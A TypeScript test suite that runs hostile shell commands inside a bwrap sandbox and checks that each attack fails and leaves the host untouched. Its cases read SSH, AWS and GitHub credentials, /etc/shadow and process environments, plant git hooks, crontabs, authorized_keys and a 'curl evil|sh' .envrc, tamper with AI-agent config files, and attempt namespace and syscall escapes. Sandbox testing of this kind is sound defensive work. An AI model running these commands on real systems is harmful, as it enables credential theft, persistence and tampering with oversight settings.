/**
 * Attack suite: each case runs a hostile script inside the default sandbox
 * (real bwrap) and asserts that the attack failed AND that the host target is
 * untouched. Cases run in parallel.
 */
import assert from 'node:assert/strict';
import { createServer as createTcp, type Server } from 'node:net';
import { createSocket, type Socket as UdpSocket } from 'node:dgram';
import { existsSync, readFileSync, rmSync } from 'node:fs';
import { spawn, type ChildProcess } from 'node:child_process';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { bwrapUnavailable, type Captured, DEEP, type Fixture, fingerprint, makeFixture, newWorkspace, runCapture, SECRET, specFor } from './helpers.js';

const skip = bwrapUnavailable();

interface Ctx {
  readonly fx: Fixture;
  readonly ws: string;
  readonly r: Captured;
}
interface Case {
  readonly name: string;
  readonly sh: (fx: Fixture, ws: string) => string;
  readonly check: (c: Ctx) => void;
  readonly env?: Record<string, string>;
}

let fx: Fixture;
let homePrint = '';
let tcp: Server;
let tcpPort = 0;
let tcpHits = 0;
let udp: UdpSocket;
let udpPort = 0;
let udpHits = 0;
let pathSock: Server;
let abstractSock: Server;
let unixHits = 0;
let sleeper: ChildProcess;
const sockPath = (): string => join(fx.root, 'host.sock');

const failed = ({ r }: Ctx): void => assert.notEqual(r.exitCode, 0, `attack succeeded: ${r.stdout}${r.stderr}`);
const noSecret = ({ r }: Ctx): void => assert.ok(!`${r.stdout}${r.stderr}`.includes(SECRET), 'secret leaked into output');
const both = (c: Ctx): void => {
  failed(c);
  noSecret(c);
};
const absent = (rel: string) => (c: Ctx): void => {
  assert.ok(!existsSync(join(c.ws, rel)), `${rel} exists on the host after the run`);
};
const unchanged = (rel: string) => (c: Ctx): void => {
  const tpl = join(c.fx.template, rel);
  assert.equal(fingerprint(join(c.ws, rel)) + readIf(join(c.ws, rel)), fingerprint(tpl) + readIf(tpl), `${rel} changed`);
};
const readIf = (p: string): string => {
  try {
    return readFileSync(p, 'utf8');
  } catch {
    return '';
  }
};
const all = (...fs: ((c: Ctx) => void)[]) => (c: Ctx): void => {
  for (const f of fs) f(c);
};
const py = (code: string): string => `python3 -c '${code}'`;
const sys = (nr: number, args = ''): string =>
  py(`import ctypes,os,sys; l=ctypes.CDLL(None,use_errno=True); r=l.syscall(${nr}${args}); e=ctypes.get_errno(); print(r,e); sys.exit(0 if r>=0 or e!=1 else 9)`);
const eperm = ({ r }: Ctx): void => assert.equal(r.exitCode, 9, `expected EPERM: ${r.stdout}${r.stderr}`);

const read = (rel: string): Case => ({ name: `read ~/${rel}`, sh: (f) => `cat ${f.fakeHome}/${rel}`, check: both });
const cases: Case[] = [
  read('.ssh/id_rsa'),
  read('.aws/credentials'),
  read('.config/gh/hosts.yml'),
  read('.npmrc'),
  read('.git-credentials'),
  { name: 'list the fake home', sh: (f) => `ls -la ${f.fakeHome}`, check: both },
  { name: 'find id_rsa anywhere', sh: () => `find / -name id_rsa 2>/dev/null | grep . `, check: both },
  { name: 'list /root', sh: () => 'ls /root', check: failed },
  { name: 'read /etc/shadow', sh: () => 'cat /etc/shadow', check: failed },
  { name: 'read /proc/1/environ', sh: () => 'tr "\\0" "\\n" </proc/1/environ | grep -E "TOKEN|SECRET"', check: both },
  { name: 'read host pid environ', sh: () => `tr "\\0" "\\n" </proc/${process.pid}/environ | grep -E "TOKEN|SECRET"`, check: both },
  { name: 'signal a host process', sh: () => `kill -9 ${sleeper.pid ?? 0}`, check: (c) => { failed(c); assert.equal(sleeper.exitCode, null); } },
  { name: 'inherited credential env', sh: () => 'env | grep -E "TOKEN|AWS|SECRET"', env: { GITHUB_TOKEN: `ghp_${'a1B2'.repeat(9)}`, AWS_SECRET_ACCESS_KEY: SECRET, LANG: `C.UTF-8` }, check: both },
  { name: 'hidden file in workspace', sh: (_f, ws) => `grep -r ${SECRET} ${ws}`, check: both },
  { name: 'mv parent of hidden dir', sh: () => `mv private p2 || true; cat p2/key.pem private/key.pem`, check: all(both, unchanged('private')) },
  { name: 'symlink to denied file', sh: (f) => `ln -s ${f.fakeHome}/.ssh/id_rsa leak && cat leak`, check: all(both, absent('leak')) },
  { name: 'symlink to /etc/shadow', sh: () => `ln -s /etc/shadow s && cat s`, check: all(failed, absent('s')) },
  { name: 'write ~/.bashrc', sh: (f) => `echo evil >> ${f.fakeHome}/.bashrc`, check: failed },
  { name: 'write ~/.profile', sh: (f) => `echo evil >> ${f.fakeHome}/.profile`, check: failed },
  { name: 'write authorized_keys', sh: (f) => `echo evil >> ${f.fakeHome}/.ssh/authorized_keys`, check: failed },
  { name: 'install a crontab', sh: () => 'mkdir -p /var/spool/cron/crontabs && echo "* * * * * evil" > /var/spool/cron/crontabs/root', check: (c) => { failed(c); assert.ok(!readIf('/var/spool/cron/crontabs/root').includes('evil')); } },
  { name: 'write /usr/bin', sh: () => 'echo evil > /usr/bin/evil', check: failed },
  { name: 'write /etc/passwd', sh: () => 'echo evil >> /etc/passwd', check: failed },
  { name: 'hook at depth 1', sh: () => 'printf "#!/bin/sh\\nevil\\n" > .git/hooks/pre-commit', check: all(failed, absent('.git/hooks/pre-commit')) },
  { name: 'hook at depth 6', sh: () => `printf "#!/bin/sh\\nevil\\n" > ${DEEP}/.git/hooks/pre-commit`, check: all(failed, absent(`${DEEP}/.git/hooks/pre-commit`)) },
  { name: 'remove hooks dir', sh: () => 'rm -rf .git/hooks', check: all(failed, unchanged('.git/hooks')) },
  { name: 'hook in fresh nested repo at depth 6', sh: () => 'mkdir -p n/o/p/q/r/s && cd n/o/p/q/r/s && git init -q && printf "#!/bin/sh\\nevil\\n" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit', check: (c) => { absent('n/o/p/q/r/s/.git/hooks/pre-commit')(c); assert.ok(c.r.violations.some((v) => v.kind === 'git-hook-created')); } },
  { name: 'fsmonitor in fresh nested repo', sh: () => 'mkdir -p m && cd m && git init -q && git config core.fsmonitor "sh -c evil"', check: (c) => { absent('m/.git/config')(c); assert.ok(c.r.violations.some((v) => v.kind === 'git-config-unsafe')); } },
  { name: 'git config core.hooksPath', sh: () => 'git config core.hooksPath /tmp/h', check: all(failed, unchanged('.git/config')) },
  { name: 'git config at depth 6', sh: () => `git -C ${DEEP} config core.sshCommand evil`, check: all(failed, unchanged(`${DEEP}/.git/config`)) },
  { name: 'mv .git .gitx', sh: () => 'mv .git .gitx', check: all(failed, absent('.gitx'), unchanged('.git/config')) },
  { name: 'mv parent of nested repo', sh: () => `mv a a2; mkdir -p ${DEEP}/.git/hooks; echo evil > ${DEEP}/.git/hooks/pre-commit; echo evil > a2/b/c/d/e/f/.git/hooks/pre-commit`, check: all(failed, absent('a2'), absent(`${DEEP}/.git/hooks/pre-commit`)) },
  { name: 'modify .claude/settings.json', sh: () => 'echo "{}" > .claude/settings.json', check: all(failed, unchanged('.claude')) },
  { name: 'create nested .claude/settings.json', sh: () => 'mkdir -p sub/.claude && echo "{\\"hooks\\":1}" > sub/.claude/settings.json', check: absent('sub/.claude') },
  { name: 'create .mcp.json', sh: () => 'echo "{}" > .mcp.json', check: absent('.mcp.json') },
  { name: 'create .vscode/settings.json', sh: () => 'mkdir .vscode && echo "{}" > .vscode/settings.json', check: absent('.vscode') },
  { name: 'create .envrc', sh: () => 'echo "curl evil|sh" > .envrc', check: absent('.envrc') },
  { name: 'modify AGENTS.md', sh: () => 'echo evil >> AGENTS.md', check: all(failed, unchanged('AGENTS.md')) },
  { name: 'unshare -U', sh: () => 'unshare -U true', check: failed },
  { name: 'unshare -rm', sh: () => 'unshare -rm true', check: failed },
  { name: 'mount tmpfs', sh: () => 'mkdir x && mount -t tmpfs none x', check: failed },
  { name: 'ptrace pid 1 (ctypes)', sh: () => sys(101, ',16,1,0,0'), check: eperm },
  { name: 'strace a host pid', sh: () => `strace -p ${sleeper.pid ?? 0} -o /dev/null & sleep 0.3; kill %1 2>/dev/null; wait %1`, check: failed },
  { name: 'bpf()', sh: () => sys(321, ',0,0,0'), check: eperm },
  { name: 'perf_event_open', sh: () => sys(298, ',0,0,-1,-1,0'), check: eperm },
  { name: 'io_uring_setup', sh: () => sys(425, ',8,0'), check: eperm },
  { name: 'keyctl', sh: () => sys(250, ',0,0'), check: eperm },
  { name: 'userfaultfd', sh: () => sys(323, ',0'), check: eperm },
  { name: 'personality ADDR_NO_RANDOMIZE', sh: () => sys(135, ',0x0040000'), check: eperm },
  { name: 'TIOCSTI', sh: () => py('import fcntl,sys\ntry: fcntl.ioctl(1, 0x5412, b"x")\nexcept OSError as e: sys.exit(9 if e.errno==1 else 1)'), check: eperm },
  { name: 'raw socket', sh: () => py('import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)'), check: failed },
  { name: 'packet socket', sh: () => py('import socket; socket.socket(17, socket.SOCK_DGRAM, 0)'), check: failed },
  { name: 'TCP to host 127.0.0.1', sh: () => py(`import socket; socket.create_connection(("127.0.0.1", ${tcpPort}), 2)`), check: (c) => { failed(c); assert.equal(tcpHits, 0); } },
  { name: 'UDP to host 127.0.0.1', sh: () => py(`import socket,time; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); [s.sendto(b"x", ("127.0.0.1", ${udpPort})) for _ in range(3)]; time.sleep(0.2)`), check: () => assert.equal(udpHits, 0) },
  { name: 'getent hosts', sh: () => 'getent hosts example.com', check: failed },
  { name: 'AF_UNIX path socket on host', sh: () => py(`import socket; s=socket.socket(socket.AF_UNIX); s.connect("${sockPath()}")`), check: (c) => { failed(c); assert.equal(unixHits, 0); } },
  { name: 'AF_UNIX abstract socket on host', sh: () => py(`import socket; s=socket.socket(socket.AF_UNIX); s.connect("\\0cordon-test-${process.pid}")`), check: (c) => { failed(c); assert.equal(unixHits, 0); } },
];

void describe('attack suite (default sandbox, real bwrap)', { concurrency: 8 }, () => {
  before(async () => {
    if (skip !== undefined) return;
    fx = makeFixture();
    homePrint = fingerprint(fx.fakeHome);
    sleeper = spawn('sleep', ['60'], { stdio: 'ignore' });
    tcp = createTcp(() => tcpHits++);
    await new Promise<void>((r) => tcp.listen(0, '127.0.0.1', r));
    const a = tcp.address();
    tcpPort = typeof a === 'object' && a !== null ? a.port : 0;
    udp = createSocket('udp4', () => udpHits++);
    await new Promise<void>((r) => udp.bind(0, '127.0.0.1', r));
    udpPort = udp.address().port;
    pathSock = createTcp(() => unixHits++);
    await new Promise<void>((r) => pathSock.listen(sockPath(), r));
    abstractSock = createTcp(() => unixHits++);
    await new Promise<void>((r) => abstractSock.listen(`\0cordon-test-${process.pid}`, r));
  });
  after(() => {
    if (skip !== undefined) return;
    sleeper.kill();
    tcp.close();
    udp.close();
    pathSock.close();
    abstractSock.close();
    assert.equal(fingerprint(fx.fakeHome), homePrint, 'fake home changed');
    rmSync(fx.root, { recursive: true, force: true });
  });
  void it('has at least 40 cases', () => assert.ok(cases.length >= 40, String(cases.length)));
  for (const c of cases) {
    void it(c.name, async (t) => {
      if (skip !== undefined) return t.skip(skip);
      const ws = newWorkspace(fx);
      const env = { PATH: '/usr/local/bin:/usr/bin:/bin', ...c.env };
      const r = await runCapture(specFor(ws, env), ['sh', '-c', c.sh(fx, ws)], join(fx.quarantine, c.name.replace(/\W+/g, '_')));
      assert.equal(r.error, undefined, r.error?.message);
      c.check({ fx, ws, r });
      assert.equal(fingerprint(fx.fakeHome), homePrint, 'fake home changed');
    });
  }
});
